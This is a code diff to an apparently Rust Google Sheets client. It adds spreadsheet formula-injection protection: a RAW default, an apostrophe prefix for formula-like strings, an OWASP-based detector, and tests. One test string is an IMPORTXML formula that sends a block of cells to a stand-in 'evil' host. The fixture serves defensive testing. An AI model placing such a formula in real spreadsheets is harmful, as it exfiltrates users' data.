@@ -22,14 +22,19 @@
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
-/// How written values are read: as if typed into the UI (`USER_ENTERED`:
-/// `"00123"` becomes the number 123, `"TRUE"` a boolean, `"=A1"` a
-/// formula), or stored as given (`RAW`).
+/// How written values are read ([`ValueInputOption`][doc]): stored as
+/// given (`RAW`, "will not be parsed and will be stored as-is", the
+/// default here: text from a form stays text), or as if typed into the UI
+/// (`USER_ENTERED`: `"00123"` becomes the number 123, `"TRUE"` a boolean,
+/// `"=A1"` a formula, and a leading apostrophe makes the rest text). See
+/// [`ValueInputOption::inert`] for sending untrusted text either way.
+///
+/// [doc]: https://developers.google.com/sheets/api/reference/rest/v4/ValueInputOption
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
 #[serde(rename_all = "SCREAMING_SNAKE_CASE")]
 pub enum ValueInputOption {
-    #[default]
     UserEntered,
+    #[default]
     Raw,
 }
 
@@ -43,6 +48,47 @@ impl ValueInputOption {
 
     pub fn parse(text: &str) -> Option<Self> {
         [Self::UserEntered, Self::Raw].into_iter().find(|o| o.as_str() == text)
+    }
+
+    /// `value` as it must be sent under this option for a spreadsheet to
+    /// hold no formula it did not mean: under `USER_ENTERED` a string that
+    /// [`reads_as_formula`] gets a leading apostrophe, which Sheets takes
+    /// as "this is text" and does not keep (the cell holds the string as
+    /// sent); everything else, and every value under `RAW`, is sent as it
+    /// is (`RAW` stores strings as given: an apostrophe would be stored
+    /// too).
+    pub fn inert(self, value: &Value) -> Value {
+        match (self, value) {
+            (Self::UserEntered, Value::String(text)) if reads_as_formula(text) => Value::String(format!("'{text}")),
+            _ => value.clone(),
+        }
+    }
+}
+
+/// Whether a spreadsheet may read `text` as a formula: it starts with `=`,
+/// `+`, `-` or `@`, or with a tab or carriage return (the characters
+/// OWASP's "CSV Injection" lists), unless it is a plain signed decimal
+/// (`-12`, `+3.5`), which spreadsheets read as a number and nothing else.
+/// Erring on the safe side costs nothing under `USER_ENTERED` (the
+/// apostrophe is not kept, the text is unchanged, only not parsed), so
+/// leading spaces and line feeds are looked past and the full-width forms
+/// `＝ ＋ － ＠` count too.
+pub fn reads_as_formula(text: &str) -> bool {
+    let text = text.trim_start_matches([' ', '\n']);
+    let mut chars = text.chars();
+    match chars.next() {
+        Some('=' | '@' | '\t' | '\r' | '＝' | '＠' | '＋' | '－') => true,
+        Some('+' | '-') => !is_plain_decimal(chars.as_str()),
+        _ => false,
+    }
+}
+
+/// `digits(.digits)?`, ASCII digits only.
+fn is_plain_decimal(text: &str) -> bool {
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    match text.split_once('.') {
+        Some((whole, fraction)) => digits(whole) && digits(fraction),
+        None => digits(text),
     }
 }
 
@@ -216,6 +262,43 @@ mod tests {
         assert_eq!(s.sheets[0].properties.sheet_id, 0);
         assert_eq!(s.sheets[0].properties.grid_properties.unwrap().row_count, 1000);
         assert_eq!((s.sheets[1].properties.sheet_id, s.sheets[1].properties.index), (7, 1));
+    }
+
+    #[test]
+    fn formula_looking_text_is_made_inert_only_under_user_entered() {
+        use serde_json::json;
+        for text in [
+            "=1+1",
+            "=IMPORTXML(\"https://evil/?\"&A1:Z99,\"//a\")",
+            "+1+1",
+            "-A1",
+            "- item",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "-",
+            "+",
+            "-1e3",
+            "-1.",
+            "--1",
+            " =1+1",
+            "\n=1",
+            "  -A1",
+            "＝1+1",
+            "－A1",
+        ] {
+            assert!(reads_as_formula(text), "{text:?}");
+            assert_eq!(ValueInputOption::UserEntered.inert(&json!(text)), json!(format!("'{text}")));
+            assert_eq!(ValueInputOption::Raw.inert(&json!(text)), json!(text), "RAW adds nothing");
+        }
+        for text in ["", "  ", "plain", "-12", " -12", "+3.5", "007", "'=1+1", "a=b", "1-2", "x =1"] {
+            assert!(!reads_as_formula(text), "{text:?}");
+            assert_eq!(ValueInputOption::UserEntered.inert(&json!(text)), json!(text));
+        }
+        for other in [json!(-12), json!(true), serde_json::Value::Null] {
+            assert_eq!(ValueInputOption::UserEntered.inert(&other), other);
+        }
+        assert_eq!(ValueInputOption::default(), ValueInputOption::Raw);
     }
 
     #[test]
